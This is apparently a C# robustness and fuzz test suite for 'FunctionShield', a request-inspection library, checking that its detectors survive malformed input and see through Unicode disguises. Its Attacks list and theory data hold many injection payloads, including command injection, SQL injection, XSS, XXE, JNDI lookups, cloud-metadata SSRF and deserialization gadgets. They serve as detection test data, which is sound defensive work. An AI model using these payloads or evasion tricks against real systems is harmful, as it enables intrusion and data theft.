using System.Globalization;
using System.Text;
using CsCheck;
using FunctionShield.Reporting;

namespace FunctionShield.Tests;

/// <summary>Text of any kind is survived, the same text has the same verdict however it is spelled, and odd bytes hide nothing.</summary>
public class InletRobustnessTests
{
    private static readonly Shield Shield = Shield.Create();

    private static readonly string[] Attacks =
    [
        "1' OR '1'='1", "x' UNION SELECT name, pw FROM users-- ", "1; DROP TABLE users", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "x; cat /etc/passwd", "$(curl http://x/)", "../../../../etc/passwd", "http://169.254.169.254/latest/", "{{7*7}}", "${jndi:ldap://x/a}",
        "*)(uid=*))(|(uid=*", "' or //user[1]", "a\r\nSet-Cookie: x=y", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "{\"$ne\": 1}",
        "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", "O:4:\"Evil\":1:{s:1:\"a\";i:1;}", "__proto__[x]=1", "a\n2026-01-01 10:00:00 INFO ok",
        "eval('x')", "/\\evil.example",
    ];

    private static readonly string[] Alphabet = ["\0", "'", "\"", "\\", "<", "(", "%", "\n", "\uD800", "\uDC00", "＇", "\u202E", "\u0301", "\uFEFF", "a", " "];

    private static readonly string[] Fields = ["body", "body.a", "query.q", "query.url", "header.x", "header.user-agent", "s3.object.key", "cookie.c", "path.p"];

    private static readonly Gen<string> Places = Gen.Int[0, Fields.Length - 1].Select(i => Fields[i]);

    private static readonly Gen<string> Mixed = Gen.OneOf(
        Gen.Int[0, Attacks.Length - 1].Select(i => Attacks[i]), Gen.Int[0, Alphabet.Length - 1].Select(i => Alphabet[i]), Gen.String[0, 6]).Array[0, 6].Select(string.Concat);

    [Fact]
    public void Random_bytes_are_survived_at_every_place() =>
        Gen.Select(Places, Gen.Byte.Array[0, 300]).Sample((field, text) => Assert.NotNull(Shield.InspectValue(field, text)));

    [Fact]
    public void Random_events_are_survived() => Gen.Select(Mixed, Gen.Byte.Array[0, 40], Gen.Int[0, 1000]).Sample((text, bytes, at) =>
    {
        byte[] whole = Event(Escaped(text));
        at %= whole.Length;
        Assert.NotNull(Shield.InspectEvent([.. whole[..at], .. bytes, .. whole[at..]]));
        Assert.NotNull(Shield.InspectEvent(whole.AsSpan(0, at)));
    });

    [Fact]
    public void Every_prefix_and_every_single_edit_of_an_attack_is_survived()
    {
        int looks = 0;
        foreach (string attack in Attacks)
        {
            for (int at = 0; at <= attack.Length; at++)
            {
                Look(attack[..at]);
                if (at < attack.Length)
                {
                    Look(attack.Remove(at, 1));
                    Look(attack.Insert(at, attack[at].ToString()));
                }

                foreach (string letter in Alphabet)
                {
                    Look(attack.Insert(at, letter));
                    if (at < attack.Length)
                        Look(attack.Remove(at, 1).Insert(at, letter));
                }
            }
        }

        Assert.True(looks > 15_000, $"only {looks} looks");

        void Look(string text)
        {
            looks++;
            // One place each, in turn: the command line's --robustness looks at real texts at length. Half a surrogate pair stays as it is.
            Shield.InspectValue(Fields[looks % Fields.Length], Encoding.UTF8.GetBytes(text));
            Shield.InspectValue("query.q", Wtf8(text));
        }
    }

    [Fact]
    public void A_text_has_one_verdict_whether_it_comes_as_a_value_or_in_an_event_and_however_json_spells_it() => Mixed.Sample(text =>
    {
        string value = Verdict(Shield.InspectValue("body.a", Encoding.UTF8.GetBytes(text)));
        string raw = Verdict(Shield.InspectEvent(Event(Raw(text))));
        string escaped = Verdict(Shield.InspectEvent(Event(Escaped(text))));
        Assert.True(value == raw, $"value: {value}; raw: {raw}; of {Escaped(text)}");
        Assert.True(value == escaped, $"value: {value}; escaped: {escaped}; of {Escaped(text)}");
    });

    [Fact]
    public void Every_attack_has_such_a_verdict()
    {
        foreach (string attack in Attacks)
            Assert.True(Shield.InspectEvent(Event(Raw(attack))).Count + Shield.InspectValue("query.next", Encoding.UTF8.GetBytes(attack)).Count > 0, attack);
    }

    [Fact]
    public void Bytes_that_are_no_utf8_have_one_verdict_as_a_value_and_in_an_event() =>
        Gen.Select(Mixed, Gen.Byte[0x80, 0xFF].Array[0, 4], Mixed).Sample((before, odd, after) =>
        {
            byte[] text = [.. Wtf8(before), .. odd, .. Wtf8(after)];
            byte[] json = JsonOf(text);
            byte[] whole = [.. "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"messageId\":\"m\",\"messageAttributes\":{\"a\":{\"stringValue\":\""u8, .. json, .. "\"}}}]}"u8];
            string value = Verdict(Shield.InspectValue("body.stringValue", text)), raw = Verdict(Shield.InspectEvent(whole));
            Assert.True(value == raw, $"value: {value}; raw: {raw}; of {Convert.ToHexString(text)}");
        });

    [Theory]
    [MemberData(nameof(Disguises))]
    public void Odd_bytes_hide_no_attack(string disguise, string attack, string className)
    {
        byte[] text = Disguised(disguise, attack);
        Assert.Contains(className, Shield.InspectValue("query.q", text).Select(report => report.Rule.ClassName));
    }

    [Theory]
    [MemberData(nameof(BenignDisguises))]
    public void Odd_bytes_alone_are_no_attack(string disguise, string text) => Assert.Empty(Shield.InspectValue("query.q", Disguised(disguise, text)));

    public static TheoryData<string, string, string> Disguises()
    {
        var data = new TheoryData<string, string, string>();
        foreach (string disguise in Names)
        {
            data.Add(disguise, "1' OR '1'='1", "sql-injection");
            data.Add(disguise, "<script>alert(1)</script>", "xss");
            data.Add(disguise, "x; cat /etc/passwd", "command-injection");
            data.Add(disguise, "../../../../etc/passwd", "path-traversal");
            data.Add(disguise, "${jndi:ldap://x/a}", "jndi-injection");
            data.Add(disguise, "{{7*7}}", "template-injection");
        }

        return data;
    }

    public static TheoryData<string, string> BenignDisguises()
    {
        var data = new TheoryData<string, string>();
        foreach (string disguise in Names)
        {
            data.Add(disguise, "O'Brien");
            data.Add(disguise, "a < b");
            data.Add(disguise, "bread; butter");
            data.Add(disguise, "reports/2026/q1");
            data.Add(disguise, "costs $5");
            data.Add(disguise, "Dear {name}");
        }

        return data;
    }

    private static readonly string[] Names =
        ["plain", "byte order mark", "right-to-left mark", "right-to-left override", "zero width", "full-width", "combining", "lone surrogate", "invalid byte", "NUL", "soft hyphen"];

    private static byte[] Disguised(string disguise, string text)
    {
        byte[] utf8 = Encoding.UTF8.GetBytes(text);
        return disguise switch
        {
            "byte order mark" => [0xEF, 0xBB, 0xBF, .. utf8],
            "right-to-left mark" => Encoding.UTF8.GetBytes("\u200F" + text + "\u200F"),
            "right-to-left override" => Encoding.UTF8.GetBytes("\u202E" + text + "\u202C"),
            "zero width" => Encoding.UTF8.GetBytes(string.Join('\u200B', text.ToCharArray())),
            "full-width" => Encoding.UTF8.GetBytes(string.Concat(text.Select(letter => letter is > ' ' and < '\x7f' ? (char)(letter - '!' + 0xFF01) : letter))),
            "combining" => [.. utf8, .. "e\u0301o\u0308"u8],
            "lone surrogate" => [.. utf8, 0xED, 0xA0, 0x80],
            "invalid byte" => [.. utf8, 0xFF],
            "NUL" => [.. utf8, 0],
            "soft hyphen" => Encoding.UTF8.GetBytes(string.Join('\u00AD', text.ToCharArray())),
            _ => utf8,
        };
    }

    private static string Verdict(IReadOnlyList<Report> reports) =>
        string.Join(' ', reports.Select(report => $"{report.Rule}/{report.Confidence}").Distinct().Order(StringComparer.Ordinal));

    /// <summary>A queue's message whose body has the text at <c>a</c>.</summary>
    private static byte[] Event(string json) => Encoding.UTF8.GetBytes(
        "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"messageId\":\"m\",\"body\":" + Quoted("{\"a\":" + json + "}") + "}]}");

    /// <summary>Only what must be is escaped; half a surrogate pair cannot be written otherwise.</summary>
    private static string Raw(string text)
    {
        var json = new StringBuilder("\"");
        for (int i = 0; i < text.Length; i++)
        {
            char letter = text[i];
            bool pair = char.IsHighSurrogate(letter) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]);
            if (pair)
                json.Append(letter).Append(text[++i]);
            else if (letter is '"' or '\\')
                json.Append('\\').Append(letter);
            else if (letter < ' ' || char.IsSurrogate(letter))
                json.Append(CultureInfo.InvariantCulture, $"\\u{(int)letter:x4}");
            else
                json.Append(letter);
        }

        return json.Append('"').ToString();
    }

    private static byte[] JsonOf(byte[] text)
    {
        var json = new List<byte>();
        foreach (byte b in text)
            json.AddRange(b is (byte)'"' or (byte)'\\' or < 0x20 ? Encoding.ASCII.GetBytes($"\\u{(int)b:x4}") : [b]);
        return [.. json];
    }

    private static string Escaped(string text) => "\"" + string.Concat(text.Select(letter => $"\\u{(int)letter:X4}")) + "\"";

    private static string Quoted(string text) => "\"" + text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"";

    private static byte[] Wtf8(string text)
    {
        var bytes = new List<byte>();
        foreach (char letter in text)
        {
            if (char.IsSurrogate(letter))
                bytes.AddRange([(byte)(0xE0 | letter >> 12), (byte)(0x80 | letter >> 6 & 0x3F), (byte)(0x80 | letter & 0x3F)]);
            else
                bytes.AddRange(Encoding.UTF8.GetBytes([letter]));
        }

        return [.. bytes];
    }
}
